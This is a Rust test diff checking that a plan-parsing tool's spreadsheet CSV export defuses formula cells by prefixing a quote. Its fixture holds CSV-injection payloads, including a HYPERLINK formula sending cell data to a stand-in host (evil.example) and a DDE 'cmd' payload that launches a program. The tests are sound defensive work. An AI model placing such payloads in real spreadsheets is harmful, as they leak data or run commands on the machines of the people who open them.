@@ -348,6 +348,35 @@ fn check_tables(plan: &Plan, what: &str) {
             .map(|row| row.iter().map(Cell::to_string).collect())
             .collect();
         assert_eq!(read, cells, "{what}: {}", table.name);
+        // For a spreadsheet, the same cells, but a `'` before each that a spreadsheet
+        // would run (OWASP's first characters; a negative number is a number).
+        let spreadsheet = table.to_spreadsheet_csv();
+        let mut reader = csv::ReaderBuilder::new().from_reader(spreadsheet.as_bytes());
+        let read: Vec<Vec<String>> = reader
+            .records()
+            .map(|r| r.unwrap().iter().map(str::to_owned).collect())
+            .collect();
+        let formula = |cell: &str| {
+            let negative = cell.strip_prefix('-').is_some_and(|n| {
+                !n.is_empty() && n.bytes().all(|b| b.is_ascii_digit() || b == b'.')
+            });
+            cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && !negative
+        };
+        let defused: Vec<Vec<String>> = cells
+            .iter()
+            .map(|row| {
+                row.iter()
+                    .map(|c| {
+                        if formula(c) {
+                            format!("'{c}")
+                        } else {
+                            c.clone()
+                        }
+                    })
+                    .collect()
+            })
+            .collect();
+        assert_eq!(read, defused, "{what}: {} for spreadsheets", table.name);
     }
     // The descriptor describes each table as it is.
     let descriptor: Value = serde_json::from_str(&package.descriptor()).unwrap();
@@ -440,6 +469,37 @@ fn offsets_hold_for_notes_indentation_and_characters_outside_the_bmp() {
     let bytes: usize = first["byte_start"].parse().unwrap();
     let chars: usize = first["char_start"].parse().unwrap();
     assert_eq!(text[..bytes].chars().count(), chars);
+}
+
+/// A plan whose titles, bodies named, responsibility lines and quote start as formulas
+/// do: the issue's cells.
+const FORMULAS: &str = "一、重點任務\n\
+    1.=HYPERLINK(\"http://evil.example/\"&A1,\"click\")。健全體系。到2025年,=覆蓋率達到60%。\n\
+    責任單位:=1+2局、財政局\n\
+    2.+cmd|' /C calc'!A0。新建站。\n\
+    責任單位:@SUM(1+1)局\n";
+
+#[test]
+fn the_package_is_for_programs_and_a_spreadsheet_gets_its_own_csv() {
+    let plan = parse(FORMULAS).unwrap();
+    // Every check of the tables, the quotes at their offsets and both CSVs.
+    check_tables(&plan, "a plan of formulas");
+    let package = plan.data_package();
+    let files: HashMap<String, String> = package.files().collect();
+    // The package's CSV says each value exactly: the quote is the text at its offsets.
+    assert!(files["targets.csv"].contains(",=覆蓋率達到60%,"));
+    assert!(
+        files["tasks.csv"]
+            .contains(",\"=HYPERLINK(\"\"http://evil.example/\"\"&A1,\"\"click\"\")\",")
+    );
+    assert!(files["organizations.csv"].contains(",=1+2局,"));
+    assert!(files["responsibilities.csv"].contains(",@SUM(1+1)局,"));
+    // The spreadsheet's, made from the same tables, does not run them.
+    let spreadsheet = |name: &str| table(&package.tables, name).to_spreadsheet_csv();
+    assert!(spreadsheet("targets").contains(",\"'=覆蓋率達到60%\","));
+    assert!(spreadsheet("tasks").contains(",\"'+cmd|' /C calc'!A0\","));
+    assert!(spreadsheet("organizations").contains(",\"'=1+2局\","));
+    assert!(spreadsheet("responsibilities").contains(",\"'@SUM(1+1)局\","));
 }
 
 #[test]
